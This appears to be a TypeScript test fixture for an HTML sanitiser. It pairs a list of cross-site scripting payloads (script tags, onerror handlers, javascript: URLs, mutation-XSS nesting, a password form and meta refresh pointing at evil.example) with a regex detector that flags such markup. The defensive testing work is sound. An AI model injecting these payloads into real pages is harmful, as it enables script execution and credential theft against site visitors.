/** HTML that runs, loads or overlays something unless it is made safe. */
export const hostileHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#106;avascript&colon;alert(1)">b</a>',
  '<a href="java\tscript:alert(1)">c</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">over all</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p id="createElement" onclick=alert(1)>clobber</p>',
  '<scr<script>ipt>alert(1)</script>',
  '<div><!--><img src=x onerror=alert(1)>--></div>',
  '<p>unclosed <b onmouseover=alert(1)',
];

const forbiddenTag =
  /^(?:script|style|object|embed|applet|svg|math|base|meta|link|form|input|button|textarea|select|noscript|template|frame|frameset)$/;

const runningTag = /^(?:script|object|embed|applet|base|meta|link|frame|frameset)$/;

/**
 * Names a part of the HTML that could run or overlay something; `null` where there is none.
 *
 * @param least - Only what could run: sanitisers differ in which pictures, forms and styles they keep.
 */
export function dangerIn(html: string, least = false): string | null {
  const forbidden = least ? runningTag : forbiddenTag;
  for (const [tag, name = '', attributes = ''] of html.matchAll(
    /<\/?([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>?/gi,
  )) {
    if (forbidden.test(name.toLowerCase())) return `the element ${tag}`;
    const bare = attributes.replaceAll(/\s+/g, ' ');
    // Text in quotes is a value, whatever it looks like.
    const names = bare.replaceAll(/"[^"]*"|'[^']*'/g, '""');
    if (/(?:^|[\s/"'])on[a-z]+\s*=/i.test(names)) return `an event handler in ${tag}`;
    const attribute = /(?:^|[\s/"'])(style|srcdoc|formaction|http-equiv)\s*=/i.exec(names)?.[1];
    if (attribute !== undefined && !(least && /^style$/i.test(attribute)))
      return `an attribute in ${tag}`;
    if (/=\s*["']?\s*(?:javascript|vbscript)\s*:/i.test(bare)) return `an address in ${tag}`;
    if (/^iframe$/i.test(name) && bare.includes('evil.example')) return `the frame ${tag}`;
  }
  return null;
}
